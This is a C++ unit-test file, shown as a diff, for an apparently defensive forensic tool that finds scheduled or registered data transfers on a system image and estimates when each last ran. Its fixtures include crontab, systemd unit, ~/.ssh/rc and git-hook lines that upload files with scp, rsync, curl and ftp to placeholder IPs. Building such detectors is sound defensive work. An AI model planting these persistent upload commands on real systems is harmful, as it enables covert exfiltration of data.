@@ -1,0 +1,94 @@
+#include "auexfil/artefacts/registered.hpp"
+
+#include <catch2/catch.hpp>
+
+#include "../transfer/rules.hpp"
+#include "image.hpp"
+
+namespace auexfil::artefacts::test {
+namespace {
+
+/// "WHERE[ in SCRIPT]: TOOL DIRECTION PEER…".
+Lines told(const std::vector<Registered>& registered) {
+  Lines lines;
+  for (const Registered& one : registered) {
+    std::string line = one.artefact->where();
+    line.append(one.script.empty() ? "" : " in " + one.script).append(": ").append(one.tool);
+    line.append(" ").append(transfer::to_word(one.direction));
+    for (const transfer::ArgPeer& peer : one.peers) {
+      line.append(" ").append(peer.host.empty() ? "?" : peer.host);
+    }
+    lines.push_back(line);
+  }
+  return lines;
+}
+
+}  // namespace
+
+TEST_CASE("registered: what artefacts and their scripts would send") {
+  const Image image(Files{
+      {"/etc/crontab",
+       "0 2 * * * root scp -q /a b@192.0.2.1:x\n"
+       "0 3 * * * root cd / && /opt/night.sh\n"
+       "0 4 * * * root timeout 60 curl -T f ftp://192.0.2.3/up/\n"
+       "0 5 * * * root scp /a $HOST:x\n"
+       "0 6 * * * root curl -o f http://192.0.2.4/f\n"
+       "0 7 * * * root echo scp; curl http://localhost/\n"
+       "0 8 * * * root python3 /opt/x.py\n"
+       "0 9 * * * root /tmp/agent -s -T /a ftp://192.0.2.5/up/b\n"},
+      {"/opt/night.sh",
+       "#!/bin/sh\nfor i in 1 2; do\n  ftp -n 192.0.2.2 <<END\nput x\nEND\ndone\n/opt/deeper.sh\n"},
+      {"/opt/deeper.sh", "#!/bin/sh\nscp a b@192.0.2.9:\n"},
+      {"/opt/x.py", "#!/usr/bin/python3\nimport os\nscp = 1\n"},
+      {"/etc/systemd/system/a.service",
+       "[Service]\nExecStart=/usr/bin/rsync -a /a b@192.0.2.6:c\n"},
+      {"/root/.ssh/rc", "curl -T k http://192.0.2.7/\n"},
+      {"/srv/r.git/hooks/post-receive", "#!/bin/sh\nrsync -a . b@192.0.2.8:c\n"},
+      {"/etc/systemd/system/d.service", "[Service]\nExecStart=/usr/bin/rsync --daemon\n"},
+  });
+  const Inventory inventory = collect(image);
+  const auto found = find_registered(inventory, image, auexfil::test::rules().tools);
+  CHECK(told(found) == Lines{"/etc/crontab:1: scp out 192.0.2.1",
+                             "/etc/crontab:2 in /opt/night.sh: ftp unknown 192.0.2.2",
+                             "/etc/crontab:3: curl out 192.0.2.3", "/etc/crontab:4: scp out ?",
+                             "/etc/crontab:5: curl in 192.0.2.4",
+                             "/etc/crontab:8: curl out 192.0.2.5",
+                             "/etc/systemd/system/a.service: rsync out 192.0.2.6",
+                             "/root/.ssh/rc in /root/.ssh/rc: curl out 192.0.2.7",
+                             "/srv/r.git/hooks/post-receive in /srv/r.git/hooks/post-receive: "
+                             "rsync out 192.0.2.8"});
+}
+
+TEST_CASE("registered: when each ran last") {
+  const Image image(Files{
+      {"/etc/debian_version", "12\n"},
+      {"/etc/timezone", "Etc/UTC\n"},
+      {"/etc/crontab",
+       "2 1 * * * root scp /a b@192.0.2.1:x\n2 5 * * * root scp /c b@192.0.2.1:x\n"},
+      {"/etc/cron.daily/push", "#!/bin/sh\nscp /d b@192.0.2.1:x\n"},
+      {"/var/spool/anacron/cron.daily", "20261201\n"},
+      {"/etc/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/scp /e b@192.0.2.1:x\n"},
+  });
+  const Matcher matcher(collect(image));
+  auto found = find_registered(matcher.inventory(), image, auexfil::test::rules().tools);
+  REQUIRE(found.size() == 4);
+  coverage::SeenJob session;
+  session.kind = "cron";
+  session.user = "root";
+  session.times = {1796173321000, 1796173381000};  // 01:02:01 and 01:03:01
+  coverage::SeenJob unit;
+  unit.kind = "unit";
+  unit.name = "a";
+  unit.starts = 1;
+  unit.last = 1796173400000;
+  find_last_runs(found, matcher, image, std::vector{session, unit});
+  CHECK(found[0].last_run == 1796173321000);
+  CHECK(found[0].last_run_by == "session of cron");
+  CHECK_FALSE(found[1].last_run);
+  CHECK(found[2].last_run == 1796083200000);
+  CHECK(found[2].last_run_by == "day of anacron's stamp");
+  CHECK(found[3].last_run == 1796173400000);
+  CHECK(found[3].last_run_by == "unit's records");
+}
+
+}  // namespace auexfil::artefacts::test
